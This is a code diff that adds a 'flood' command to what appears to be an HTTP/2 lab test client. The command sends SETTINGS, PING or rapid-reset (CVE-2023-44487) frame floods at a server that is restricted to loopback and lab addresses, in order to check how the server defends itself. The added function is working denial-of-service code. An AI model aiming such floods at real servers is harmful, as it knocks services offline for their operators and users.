@@ -14,6 +14,8 @@ bound explicitly, so one machine can stand for many sources.
       -> {"accepted": 4, "reset": 6, "unanswered": 0, "per_connection": [[4, 6, 0]]}
   edge_client.py trickle --target 127.0.0.1:16111 --interval 0.2 [--observe 10]
       -> {"closed": true, "closed_after_ms": 712, "header_bytes": 93, "sent": 4}
+  edge_client.py flood --target 127.0.0.1:16111 --kind settings|ping|rapid-reset --count 100000
+      -> {"sent": 100000, "closed": true, "goaway": 11, "elapsed_ms": 930}
 
 A stream counts as reset when the server sends RST_STREAM or ends it at once with a non-zero
 grpc-status (a trailers-only refusal). `streams` writes everything it will ever send (preface, SETTINGS, all HEADERS) before it
@@ -31,6 +33,7 @@ import time
 import h2.config
 import h2.connection
 import h2.events
+import h2.exceptions
 
 
 def parse_target(text: str) -> tuple[str, int]:
@@ -198,10 +201,79 @@ def cmd_trickle(args) -> dict:
     return result
 
 
+def cmd_flood(args) -> dict:
+    """One connection flooding control frames: SETTINGS (each owed an ACK), PING (each owed a PING ACK) or rapid
+    resets (HEADERS then RST_STREAM at once, the CVE-2023-44487 pattern). Sends in bursts while reading what the
+    server answers (and acknowledging nothing), until `count` frames went out or the server closed."""
+    target = parse_target(args.target)
+    sock = open_connection(target, args.source)
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    conn.initiate_connection()
+    sock.setblocking(True)
+    sock.sendall(conn.data_to_send())
+    sock.settimeout(0.05)
+    sent = 0
+    goaway = None
+    closed = False
+    start = time.monotonic()
+    deadline = start + args.observe
+    while sent < args.count and not closed and time.monotonic() < deadline:
+        burst = b""
+        for _ in range(min(100, args.count - sent)):
+            if args.kind == "settings":
+                burst += b"\x00\x00\x06\x04\x00\x00\x00\x00\x00" + b"\x00\x04\x00\x01\x00\x00"
+            elif args.kind == "ping":
+                burst += b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + sent.to_bytes(8, "big")
+            else:
+                stream_id = conn.get_next_available_stream_id()
+                conn.send_headers(stream_id, request_headers(args.target), end_stream=False)
+                conn.reset_stream(stream_id)
+                burst += conn.data_to_send()
+            sent += 1
+        try:
+            sock.sendall(burst)
+        except (BrokenPipeError, ConnectionResetError, socket.timeout):
+            closed = True
+            break
+        try:
+            data = sock.recv(65536)
+            if not data:
+                closed = True
+            else:
+                for event in conn.receive_data(data):
+                    if isinstance(event, h2.events.ConnectionTerminated):
+                        goaway = int(event.error_code)
+                conn.data_to_send()  # acknowledge nothing
+        except socket.timeout:
+            pass
+        except (ConnectionResetError, h2.exceptions.ProtocolError):
+            closed = True
+    # Drain until the server closes or the observation ends.
+    while not closed and time.monotonic() < deadline:
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except ConnectionResetError:
+            data = b""
+        if not data:
+            closed = True
+            break
+        try:
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ConnectionTerminated):
+                    goaway = int(event.error_code)
+        except h2.exceptions.ProtocolError:
+            pass
+    sock.close()
+    return {"sent": sent, "closed": closed, "goaway": goaway,
+            "elapsed_ms": round((time.monotonic() - start) * 1000)}
+
+
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     sub = parser.add_subparsers(dest="command", required=True)
-    for name in ("connections", "streams", "trickle"):
+    for name in ("connections", "streams", "trickle", "flood"):
         command = sub.add_parser(name)
         command.add_argument("--target", required=True, metavar="HOST:PORT")
         command.add_argument("--source", default="127.0.0.1", help="local address to bind (any 127.x)")
@@ -213,11 +285,12 @@ def main() -> int:
     sub.choices["streams"].add_argument("--connections", type=int, default=1)
     sub.choices["trickle"].add_argument("--interval", type=float, default=0.2,
                                         help="seconds between two bytes of the HEADERS frame")
+    sub.choices["flood"].add_argument("--kind", choices=("settings", "ping", "rapid-reset"), required=True)
     args = parser.parse_args()
     if not args.target.startswith(("127.", "[::1]", "localhost")) and not args.target.startswith("198.51.100."):
         print("refusing a target outside loopback and the lab", file=sys.stderr)
         return 2
-    commands = {"connections": cmd_connections, "streams": cmd_streams, "trickle": cmd_trickle}
+    commands = {"connections": cmd_connections, "streams": cmd_streams, "trickle": cmd_trickle, "flood": cmd_flood}
     result = commands[args.command](args)
     print(json.dumps(result), flush=True)
     return 0
